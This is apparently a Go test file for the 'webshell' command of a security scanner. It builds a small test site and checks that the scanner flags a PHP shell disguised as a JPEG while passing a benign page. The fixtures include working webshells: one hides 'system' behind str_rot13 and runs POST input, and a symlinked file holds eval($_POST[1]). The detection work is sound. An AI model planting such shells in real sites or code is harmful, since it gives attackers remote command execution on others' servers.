package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/yingji/yingji/internal/finding"
)

// TestWebshellCommand runs yingji webshell over a small site: a shell
// hidden as an image, a benign page, and a link to outside the tree (not
// followed).
func TestWebshellCommand(t *testing.T) {
	dir := t.TempDir()
	site := filepath.Join(dir, "site")
	write := func(name, content string) {
		t.Helper()
		p := filepath.Join(site, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write("index.php", "<?php echo htmlspecialchars($_GET['q'] ?? '');")
	write("uploads/logo.jpg", "GIF89a\n<?php\n$k = $_POST['k'];\n$f = str_rot13('flfgrz');\n$f($k);\n")
	outside := filepath.Join(dir, "outside.php")
	if err := os.WriteFile(outside, []byte(`<?php eval($_POST[1]);`), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(outside, filepath.Join(site, "link.php")); err != nil {
		t.Fatal(err)
	}

	code, out, errOut := yingji(t, "webshell", "-l", site)
	if code != 1 || strings.TrimSpace(out) != filepath.Join(site, "uploads/logo.jpg") {
		t.Fatalf("-l: exit %d, out %q, err %q", code, out, errOut)
	}

	code, out, _ = yingji(t, "webshell", "--json", site)
	if code != 1 {
		t.Fatalf("--json: exit %d", code)
	}
	fs, err := finding.ReadJSONL(strings.NewReader(out))
	if err != nil || len(fs) != 1 {
		t.Fatalf("findings %v, %v", fs, err)
	}
	f := fs[0]
	if f.Rule != "malware.webshell" || f.Severity != finding.Critical || f.Attack[0] != "T1505.003" {
		t.Errorf("finding %+v", f)
	}
	var lines []int
	for _, e := range f.Evidence[1:] {
		lines = append(lines, e.Line)
	}
	if len(lines) < 3 || lines[0] != 3 || lines[len(lines)-1] != 5 {
		t.Errorf("evidence lines %v: want the source at 3, the decoding at 4, the sink at 5", lines)
	}

	code, out, _ = yingji(t, "webshell", "--lang", "zh-CN", filepath.Join(site, "uploads/logo.jpg"))
	if code != 1 || !strings.Contains(out, "攻击者可控的输入") || !strings.Contains(out, "line 5") {
		t.Errorf("single file, zh-CN: exit %d\n%s", code, out)
	}

	if code, _, _ = yingji(t, "webshell", filepath.Join(site, "index.php")); code != 0 {
		t.Errorf("benign page: exit %d", code)
	}
	if code, _, _ = yingji(t, "webshell", filepath.Join(dir, "missing")); code != 2 {
		t.Errorf("missing path: exit %d", code)
	}
}
